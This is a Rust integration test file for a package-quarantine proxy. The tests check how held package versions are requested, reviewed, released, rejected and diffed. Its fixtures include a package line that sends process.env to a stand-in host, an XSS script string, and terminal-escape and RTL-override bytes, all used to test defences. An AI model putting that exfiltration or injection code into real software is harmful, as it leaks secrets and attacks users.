//! What people do with what is held: look, ask, release, reject, take back (flow e, INV-20).

use std::process::Output;

use cordon_tests::archive;
use cordon_tests::client::http::{self, Reply};
use cordon_tests::client::listing;
use cordon_tests::clock::{ago, days, hours};
use cordon_tests::cordon::{Builder, Cordon};
use cordon_tests::fake_registry::{FakeRegistry, Fault, Protocol, Release};
use cordon_tests::wait;
use serde_json::Value;

use crate::feeds;

const NAME: &str = "left-hand";
const OLD: &str = "1.0.0";
const HELD: &str = "1.1.0";

/// Holds one version of the package in every registry.
const POLICY: &str = "[rules.integrity]\n[rules.malware]\n[rules.deny]\neffect = \"quarantine\"\n\
     purls = [\"pkg:npm/left-hand@1.1.0\", \"pkg:pypi/left-hand@1.1.0\", \
     \"pkg:cargo/left-hand@1.1.0\"]\n";

/// Nothing is held by it.
const NOTHING: &str = "[rules.integrity]\n[rules.malware]\n";

struct Scene {
    registry: FakeRegistry,
    cordon: Cordon,
}

fn scene() -> Scene {
    scene_with("")
}

fn scene_with(section: &str) -> Scene {
    let registry = FakeRegistry::start();
    for protocol in Protocol::ALL {
        registry.publish_all(protocol, NAME, &[OLD, HELD]);
    }
    let cordon = Builder::new(&registry)
        .policy(POLICY)
        .section(section)
        .start();
    Scene { registry, cordon }
}

/// What a command says, and its exit code.
fn said(output: &Output) -> (i32, String) {
    let text = [output.stdout.clone(), output.stderr.clone()].concat();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&text).into_owned(),
    )
}

impl Scene {
    fn address(&self, protocol: Protocol) -> String {
        let file = self.registry.file_path(protocol, NAME, HELD);
        let file = file.rsplit('/').next().unwrap_or_default();
        let base = self.cordon.url(protocol);
        match protocol {
            Protocol::Npm => format!("{base}{NAME}/-/{file}"),
            Protocol::Pypi => format!("{base}files/{NAME}/{file}"),
            Protocol::Cargo => format!("{base}api/v1/crates/{NAME}/{HELD}/download"),
        }
    }

    /// Asks for the held file.
    fn file(&self, protocol: Protocol) -> Reply {
        http::get(&self.address(protocol))
    }

    /// The decision a refusal names.
    fn refused(&self, protocol: Protocol) -> String {
        let reply = self.file(protocol);
        assert_eq!(reply.status, 403, "{protocol:?}: {}", reply.text());
        let decision = reply.header("x-cordon-decision");
        decision.expect("a refusal names its decision").to_owned()
    }

    /// A command that looks into the data folder.
    fn look(&self, arguments: &[&str]) -> (i32, String) {
        let all = [&["quarantine"], arguments].concat();
        said(&self.cordon.command(&all))
    }

    /// A command that speaks to the running Cordon.
    fn tell(&self, arguments: &[&str]) -> (i32, String) {
        let admin = ["--admin", self.cordon.admin()];
        let all = [&["quarantine"], arguments, &admin].concat();
        said(&self.cordon.command(&all))
    }

    fn release(&self, id: &str, by: &str) -> (i32, String) {
        self.tell(&["release", id, "--reason", "looked at it", "--by", by])
    }

    fn ticket(&self, id: &str) -> Value {
        http::get(&format!("{}quarantine/{id}", self.cordon.admin()))
            .expect(200)
            .json()
    }

    fn state(&self, id: &str) -> String {
        self.ticket(id)["state"].as_str().unwrap_or("").to_owned()
    }

    fn post(&self, path: &str) -> Reply {
        let url = format!("{}{path}", self.cordon.admin());
        http::request("POST", &url, &[], b"")
    }

    fn has_metric(&self, line: &str) -> bool {
        let text = http::get(&format!("{}metrics", self.cordon.admin())).text();
        text.lines().any(|it| it == line)
    }

    fn reload(&self) {
        let reply = self.post("reload");
        assert_eq!(reply.status, 200, "{}", reply.text());
    }

    fn page(&self, id: &str) -> Value {
        let url = format!("{}why/{id}.json", self.cordon.root());
        http::get(&url).expect(200).json()
    }

    fn ask(&self, id: &str, fields: &[(&str, &str)], headers: &[(&str, &str)]) -> Reply {
        let body: Vec<String> = fields
            .iter()
            .map(|(key, value)| format!("{key}={}", encoded(value)))
            .collect();
        let form = ("content-type", "application/x-www-form-urlencoded");
        let headers = [headers, &[form]].concat();
        let url = format!("{}why/{id}/request", self.cordon.root());
        http::request("POST", &url, &headers, body.join("&").as_bytes())
    }

    fn proof(&self, id: &str) -> String {
        let page = self.page(id);
        let proof = page["hold"]["form"]["proof"].as_str();
        proof.unwrap_or_else(|| panic!("{page:#}")).to_owned()
    }
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

#[test]
fn what_is_held_is_asked_for_shown_released_and_installable_until_something_new_is_found() {
    let registry = FakeRegistry::start();
    for protocol in Protocol::ALL {
        registry.publish_all(protocol, NAME, &[OLD, HELD]);
        feeds::publish(&registry, protocol, &[]);
    }
    let cordon = Builder::new(&registry)
        .policy(POLICY)
        .section(&feeds::feeds(&registry, ""))
        .start();
    let scene = Scene { registry, cordon };
    for protocol in Protocol::ALL {
        let ecosystem = protocol.purl_type();
        let line = format!("cordon_feed_believed{{ecosystem=\"{ecosystem}\"}} 1");
        wait::until("the feed is loaded", || scene.has_metric(&line));
        let id = scene.refused(protocol);
        let ask = [
            "why",
            &id,
            "--ask",
            "the build needs it",
            "--server",
            scene.cordon.root(),
        ];
        let ask = [&ask[..], &["--contact", "ada@acme.example"]].concat();
        let (code, told) = said(&scene.cordon.command(&ask));
        assert_eq!(code, 0, "{told}");
        let (code, told) = said(&scene.cordon.command(&ask));
        assert!(code == 1 && told.contains("asked for already"), "{told}");
        let (code, listed) = scene.look(&["list", "--ecosystem", protocol.purl_type()]);
        assert_eq!(code, 0, "{listed}");
        assert!(listed.contains("ASKED FOR 1 x"), "{listed}");
        let (_, shown) = scene.look(&["show", &id]);
        for part in [
            "held",
            "deny/denied/",
            "the build needs it",
            "ada@acme.example",
        ] {
            assert!(shown.contains(part), "{part}: {shown}");
        }
        let (code, told) = scene.release(&id, "grace");
        assert_eq!(code, 0, "{told}");
        assert!(told.contains("it is released now"), "{told}");
        assert_eq!(scene.file(protocol).status, 200, "{protocol:?}");
        let base = scene.cordon.url(protocol);
        let choices = listing::choices(protocol, &base, NAME);
        assert!(choices.contains(&HELD.to_owned()), "{choices:?}");
        assert_eq!(scene.page(&id)["hold"]["state"], "released");
    }
    for protocol in Protocol::ALL {
        let record = feeds::advisory(protocol, "MAL-2026-77", NAME, &[HELD]);
        feeds::publish(&scene.registry, protocol, &[record]);
    }
    scene.reload();
    for protocol in Protocol::ALL {
        wait::until("the new finding blocks it", || {
            scene.file(protocol).status == 403
        });
        let id = scene.refused(protocol);
        let ticket = scene.ticket(&id);
        assert_eq!(ticket["state"], "held", "{ticket:#}");
        assert_eq!(ticket["standing"][0]["effect"], "block");
    }
}

#[test]
fn of_two_reviewers_at_once_one_is_told_that_it_is_settled() {
    let scene = scene();
    let id = scene.refused(Protocol::Npm);
    let path = |by: &str, act: &str| format!("quarantine/{id}/{act}?by={by}&reason=looked");
    let statuses: Vec<(u16, String)> = std::thread::scope(|scope| {
        let scene = &scene;
        let asked = [path("ada", "release"), path("grace", "reject")];
        let asked = asked.map(|path| scope.spawn(move || scene.post(&path)));
        asked
            .into_iter()
            .map(|thread| {
                let reply = thread.join().expect("an answer");
                (reply.status, reply.text())
            })
            .collect()
    });
    let mut codes: Vec<u16> = statuses.iter().map(|(status, _)| *status).collect();
    codes.sort_unstable();
    assert_eq!(codes, [200, 409], "{statuses:?}");
    let conflict = statuses.iter().find(|(status, _)| *status == 409);
    let text = &conflict.expect("one of them").1;
    assert!(text.contains("already by"), "{text}");
    // What decided is what everybody gets.
    let expected = match scene.state(&id).as_str() {
        "released" => 200,
        _ => 403,
    };
    assert_eq!(scene.file(Protocol::Npm).status, expected);
}

#[test]
fn a_reviewer_who_saw_something_else_is_told_what_changed() {
    let scene = scene();
    let id = scene.refused(Protocol::Npm);
    scene.cordon.write_policy(&format!(
        "{POLICY}[rules.license]\necosystem = \"npm\"\nallow = [\"MIT-0\"]\neffect = \"quarantine\"\n"
    ));
    scene.reload();
    let (code, told) = scene.release(&id, "grace");
    assert_eq!(code, 3, "{told}");
    assert!(told.contains("found since: license/"), "{told}");
    let newest = scene.refused(Protocol::Npm);
    let (code, told) = scene.release(&newest, "grace");
    assert_eq!(code, 0, "{told}");
    let (code, told) = scene.release(&newest, "ada");
    assert_eq!(code, 3, "{told}");
    assert!(told.contains("is released already by grace"), "{told}");
}

#[test]
fn a_rejection_outlives_its_reason_until_somebody_takes_it_back() {
    let mut scene = scene();
    for protocol in Protocol::ALL {
        let id = scene.refused(protocol);
        let reject = ["reject", &id, "--reason", "steals tokens", "--by", "grace"];
        let (code, told) = scene.tell(&reject);
        assert_eq!(code, 0, "{told}");
    }
    scene.cordon.write_policy(NOTHING);
    scene.reload();
    assert!(scene.cordon.stop().success());
    scene.cordon.restart();
    for protocol in Protocol::ALL {
        let id = scene.refused(protocol);
        assert_eq!(scene.state(&id), "rejected", "{protocol:?}");
        let reason = scene.page(&id)["summary"].to_string();
        assert!(
            reason.contains("rejected by grace: steals tokens"),
            "{reason}"
        );
        let (code, told) = scene.release(&id, "ada");
        assert_eq!(code, 3, "{told}");
        let (code, told) = scene.tell(&["undo", &id, "--reason", "mistaken", "--by", "ada"]);
        assert_eq!(code, 0, "{told}");
        assert_eq!(scene.state(&id), "cleared", "{protocol:?}");
        assert_eq!(scene.file(protocol).status, 200, "{protocol:?}");
        let (code, _) = scene.tell(&["undo", &id, "--reason", "again"]);
        assert_eq!(code, 3);
    }
    let (_, log) = said(&scene.cordon.command(&["log", "verify"]));
    assert!(!log.contains("corrupt"), "{log}");
}

#[test]
fn a_release_is_taken_back_ends_by_itself_and_clears_when_the_finding_goes() {
    let scene = scene();
    let id = scene.refused(Protocol::Npm);
    assert_eq!(scene.release(&id, "grace").0, 0);
    assert_eq!(scene.file(Protocol::Npm).status, 200);
    let (code, told) = scene.tell(&["undo", &id, "--reason", "on second thought"]);
    assert_eq!(code, 0, "{told}");
    let id = scene.refused(Protocol::Npm);
    assert_eq!(scene.state(&id), "held");
    let soon = ["release", &id, "--reason", "for now", "--until", "2s"];
    let (code, told) = scene.tell(&soon);
    assert_eq!(code, 0, "{told}");
    wait::until("the release ends", || {
        scene.file(Protocol::Npm).status == 403
    });
    assert_eq!(scene.state(&id), "held");
    scene.cordon.write_policy(NOTHING);
    scene.reload();
    assert_eq!(scene.file(Protocol::Npm).status, 200);
    let ticket = scene.ticket(&id);
    assert_eq!(ticket["state"], "cleared", "{ticket:#}");
    assert!(
        ticket["because"].to_string().contains("went away"),
        "{ticket:#}"
    );
    for (until, why) in [
        ("2020-01-01T00:00:00Z", "would have ended"),
        ("400d", "longer than it may"),
        ("soon", "neither a time"),
    ] {
        scene.cordon.write_policy(POLICY);
        scene.reload();
        let id = scene.refused(Protocol::Npm);
        let (code, told) = scene.tell(&["release", &id, "--reason", "x", "--until", until]);
        assert!(code != 0 && told.contains(why), "{until}: {told}");
    }
}

#[test]
fn a_release_takes_two_people_where_that_is_configured() {
    let scene = scene_with("[quarantine]\napprovers = 2\n");
    let id = scene.refused(Protocol::Cargo);
    for by in ["ada", "Ada "] {
        let (code, told) = scene.release(&id, by);
        assert_eq!(code, 0, "{told}");
        assert!(told.contains("first of two voices"), "{told}");
        assert_eq!(scene.file(Protocol::Cargo).status, 403);
    }
    let (code, told) = scene.release(&id, "grace");
    assert_eq!(code, 0, "{told}");
    assert_eq!(scene.file(Protocol::Cargo).status, 200);
    let (_, shown) = scene.look(&["show", &id]);
    assert!(shown.contains("by grace and "), "{shown}");
}

#[test]
fn many_are_decided_about_only_as_they_were_shown() {
    let scene = scene();
    let registry = &scene.registry;
    for name in ["left-foot", "right-foot"] {
        registry.publish(Release::npm(name, OLD));
    }
    scene.cordon.write_policy(&POLICY.replace(
        "\"pkg:npm/left-hand@1.1.0\"",
        "\"pkg:npm/left-hand@1.1.0\", \"pkg:npm/left-foot\", \"pkg:npm/right-foot\"",
    ));
    scene.reload();
    let get = |name: &str| scene.cordon.get(Protocol::Npm, name).status;
    let bulk = |more: &[&str]| {
        let mut arguments = vec!["bulk", "release", "--names", "left-*", "--reason", "seen"];
        arguments.extend(["--ecosystem", "npm"]);
        arguments.extend(more);
        scene.tell(&arguments)
    };
    let plan = |told: &str| {
        told.rsplit("--plan ")
            .next()
            .unwrap_or("")
            .trim()
            .to_owned()
    };
    assert_eq!(get("left-foot"), 403);
    let (code, early) = bulk(&[]);
    assert_eq!(code, 0, "{early}");
    assert!(
        early.contains("left-foot") && early.contains("nothing was done"),
        "{early}"
    );
    scene.refused(Protocol::Npm);
    assert_eq!(get("right-foot"), 403);
    let (code, told) = bulk(&["--plan", &plan(&early)]);
    assert_eq!(code, 3, "{told}");
    assert_eq!(get("left-foot"), 403);
    let (_, shown) = bulk(&[]);
    assert!(!shown.contains("right-foot"), "{shown}");
    let (code, told) = bulk(&["--plan", &plan(&shown)]);
    assert_eq!(code, 0, "{told}");
    assert_eq!((get("left-foot"), get("right-foot")), (200, 403));
    assert_eq!(scene.file(Protocol::Npm).status, 200);
    let (code, told) = scene.tell(&["bulk", "reject", "--reason", "all of it"]);
    assert!(code != 0 && told.contains("say which"), "{told}");
}

#[test]
fn inv_51_a_request_comes_from_the_page_once_and_is_only_text() {
    let scene = scene_with("[quarantine]\nrequests_per_hour = 4\n");
    let id = scene.refused(Protocol::Pypi);
    let proof = scene.proof(&id);
    let hostile = "<script>alert(1)</script>\x1b[2J\u{202e}\u{7}\nreason";
    let good = [("reason", hostile), ("proof", proof.as_str())];
    for (fields, headers, status) in [
        (&good[..], &[("sec-fetch-site", "cross-site")][..], 403),
        (&good, &[("origin", "https://evil.example")], 403),
        (&good, &[("origin", "null")], 403),
        (&[("reason", "x"), ("proof", "0")], &[], 403),
        (&[("reason", "x")], &[], 403),
        (&[("reason", "  "), ("proof", &proof)], &[], 422),
        (&good, &[("sec-fetch-site", "same-origin")], 200),
        (&good, &[], 409),
        // Another program at the same address asks for itself.
        (&good, &[("user-agent", "other/1")], 200),
        (&good, &[], 429),
    ] {
        let reply = scene.ask(&id, fields, headers);
        assert_eq!(
            reply.status,
            status,
            "{fields:?} {headers:?}: {}",
            reply.text()
        );
        assert!(!reply.text().contains("<script>"), "{}", reply.text());
    }
    let (_, shown) = scene.look(&["show", &id]);
    let (_, listed) = scene.look(&["list"]);
    for text in [shown, listed] {
        assert!(!text.contains(['\x1b', '\u{202e}', '\u{7}']), "{text:?}");
    }
    let url = format!("{}why/{id}", scene.cordon.root());
    let page = http::get(&url).expect(200);
    let policy = page.header("content-security-policy").unwrap_or_default();
    assert!(policy.contains("form-action 'self'"), "{policy}");
    assert!(!page.text().contains("<script"), "{}", page.text());
    let body = http::request("GET", &format!("{url}/request"), &[], b"").status;
    assert_eq!(body, 403, "a request is never made by looking");
}

/// What it was compared with was fetched for that: nobody need have installed it.
#[test]
fn what_is_held_for_a_change_is_shown_beside_what_it_was_compared_with() {
    let registry = FakeRegistry::start();
    let release = |version, age| Release::npm(NAME, version).published_at(ago(age));
    registry.publish(release(OLD, days(200)));
    let sends = "fetch('https://x.invalid/', { body: JSON.stringify(process.env) });\n";
    registry.publish(release(HELD, hours(3)).source("index.js", sends));
    let policy = "[rules.integrity]\n[rules.malware]\n[rules.content-change]\n";
    let cordon = Builder::new(&registry).policy(policy).start();
    let scene = Scene { registry, cordon };
    let id = scene.refused(Protocol::Npm);
    let (code, told) = scene.look(&["diff", &id]);
    assert_eq!(code, 0, "{told}");
    assert!(told.contains("process.env"), "{told}");
    let between = format!("from pkg:npm/{NAME}@{OLD} to pkg:npm/{NAME}@{HELD}");
    assert!(told.contains(&between), "{told}");
}

/// Two archives one after the other would take a client twice the time.
#[test]
fn what_a_version_is_compared_with_is_fetched_while_the_version_is() {
    let registry = FakeRegistry::start();
    let release = |version, age| Release::npm(NAME, version).published_at(ago(age));
    registry.publish(release(OLD, days(200)));
    registry.publish(release(HELD, hours(3)));
    let [old, new] = [OLD, HELD].map(|it| registry.file_path(Protocol::Npm, NAME, it));
    registry.fault_times(&new, Fault::StallHead, 1);
    let policy = "[rules.integrity]\n[rules.malware]\n[rules.content-change]\n";
    let cordon = Builder::new(&registry).policy(policy).start();
    let scene = Scene { registry, cordon };
    let url = scene.address(Protocol::Npm);
    std::thread::scope(|scope| {
        let client = scope.spawn(|| http::get(&url));
        wait::until("the version before is fetched", || {
            scene.registry.log().gets(&old) == 1
        });
        scene.registry.release_stalls();
        assert_eq!(client.join().expect("a client").status, 200);
    });
    assert_eq!(scene.registry.log().gets(&old), 1);
    assert_eq!(scene.registry.log().gets(&new), 1);
}

#[test]
fn held_archives_are_fetched_and_looked_into_without_being_served() {
    let registry = FakeRegistry::start();
    let package = |version: &str, more: &[(&str, &[u8])]| {
        let manifest = format!("{{\"name\":\"{NAME}\",\"version\":\"{version}\"}}");
        let mut entries = vec![("package/package.json".to_owned(), manifest.into_bytes())];
        for (path, bytes) in more {
            entries.push(((*path).to_owned(), bytes.to_vec()));
        }
        Release::npm(NAME, version).archive(archive::tar_gz(&entries))
    };
    registry.publish(package(OLD, &[("package/index.js", b"one\ntwo\n")]));
    let hostile: &[u8] = b"one\n\x1b]0;owned\x07\xe2\x80\xaethree\n";
    registry.publish(package(HELD, &[("package/index.js", hostile)]));
    let cordon = Builder::new(&registry).policy(POLICY).start();
    let scene = Scene { registry, cordon };
    let old = scene.registry.file_path(Protocol::Npm, NAME, OLD);
    let old = old.rsplit('/').next().unwrap_or_default().to_owned();
    let url = format!("{}{NAME}/-/{old}", scene.cordon.url(Protocol::Npm));
    assert_eq!(http::get(&url).status, 200);
    let id = scene.refused(Protocol::Npm);
    let held = scene.registry.file_path(Protocol::Npm, NAME, HELD);
    assert_eq!(scene.registry.log().gets(&held), 0);
    let (code, told) = scene.look(&["files", &id]);
    assert!(code != 0 && told.contains("quarantine fetch"), "{told}");
    let (code, told) = scene.tell(&["fetch", &id]);
    assert_eq!(code, 0, "{told}");
    assert!(told.contains("bytes      sha256:"), "{told}");
    assert_eq!(scene.registry.log().gets(&held), 1);
    assert_eq!(scene.file(Protocol::Npm).status, 403);
    let (code, told) = scene.look(&["files", &id]);
    assert_eq!(code, 0, "{told}");
    assert!(told.contains("package/index.js"), "{told}");
    let (code, told) = scene.look(&["cat", &id, "package/index.js"]);
    assert_eq!(code, 0, "{told}");
    assert!(
        told.contains("\\u{1b}]0;owned\\u{7}\\u{202e}three"),
        "{told:?}"
    );
    let (code, told) = scene.look(&["diff", &id]);
    assert_eq!(code, 0, "{told}");
    assert!(told.contains("-two") && told.contains("three"), "{told}");
    assert!(!told.contains('\x1b'), "{told:?}");
    // The release is of these bytes: the first refusal did not show them.
    let (code, told) = scene.release(&id, "grace");
    assert_eq!(code, 3, "{told}");
    let ticket = scene.ticket(&id);
    let newest = ticket["standing"][0]["decision"].as_str();
    let newest = newest.expect("something stands about it");
    assert!(told.contains(&format!("look again at {newest}")), "{told}");
    let (code, told) = scene.release(newest, "grace");
    assert_eq!(code, 0, "{told}");
    assert_eq!(scene.file(Protocol::Npm).status, 200);
    let base = scene.cordon.url(Protocol::Npm);
    let choices = listing::choices(Protocol::Npm, &base, NAME);
    assert!(choices.contains(&HELD.to_owned()), "{choices:?}");
    assert_eq!(scene.registry.log().gets(&held), 1, "it was kept");
}

#[test]
fn what_is_held_is_counted_for_operators() {
    let scene = scene();
    let metric = |line: &str| scene.has_metric(line);
    let id = scene.refused(Protocol::Npm);
    let held = |count: u32| format!("cordon_quarantine_held{{ecosystem=\"npm\"}} {count}");
    wait::until("it is counted", || metric(&held(1)));
    assert_eq!(scene.release(&id, "grace").0, 0);
    wait::until("it is counted no longer", || metric(&held(0)));
    assert!(metric(
        "cordon_quarantine_changes_total{act=\"released\"} 1"
    ));
}
